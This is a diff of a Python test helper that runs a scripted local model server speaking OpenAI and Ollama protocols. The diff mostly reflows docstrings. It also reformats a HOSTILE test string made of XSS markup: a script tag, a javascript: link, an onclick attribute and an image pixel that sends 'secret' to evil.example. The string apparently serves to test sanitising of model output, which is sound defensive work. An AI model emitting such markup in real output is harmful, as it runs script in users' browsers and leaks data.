@@ -1,4 +1,4 @@
-"""A scripted model server: speaks OpenAI's and Ollama's protocols over real HTTP and says what the test wrote down.
+"""A scripted model server: two protocols over real HTTP, saying what the test wrote down.
 
     with ScriptedModel("Hello!", Reply(calls=[("add_task", {"name": "Tea"})])) as server:
         model = server.openai()        # or server.ollama()
@@ -6,8 +6,9 @@
         server.requests                # what it was asked, oldest first
         server.hung_up.wait(5)         # the client closed the connection in the middle of an answer
 
-It runs uvicorn in a thread on a free port of 127.0.0.1.  Answers are used up in order; `say` adds more, `otherwise` (a
-function from request body to reply) answers when they are used up.  Nothing here sleeps: `hold` waits for `release()`.
+It runs uvicorn in a thread on a free port of 127.0.0.1.  Answers are used up in order; `say`
+adds more, `otherwise` (a function from request body to reply) answers when they are used up.
+Nothing here sleeps: `hold` waits for `release()`.
 """
 
 import asyncio
@@ -23,7 +24,10 @@ import uvicorn
 
 from pipulate.chat.providers import OLLAMA, OPENAI, Remote
 
-HOSTILE = "# Hi\n<script>alert(1)</script>\n![pixel](https://evil.example/?q=secret) [click](javascript:alert(1)) <b onclick=x>"
+HOSTILE = (
+    "# Hi\n<script>alert(1)</script>\n![pixel](https://evil.example/?q=secret) "
+    "[click](javascript:alert(1)) <b onclick=x>"
+)
 
 
 @dataclass
@@ -44,7 +48,9 @@ class Reply:
 
 
 class ScriptedModel:
-    """The server.  `models` are the names it lists; `facts` is merged into the answer of Ollama's /api/show."""
+    """The server.  `models` are the names it lists; `facts` is merged into the answer of
+    Ollama's /api/show.
+    """
 
     def __init__(
         self,
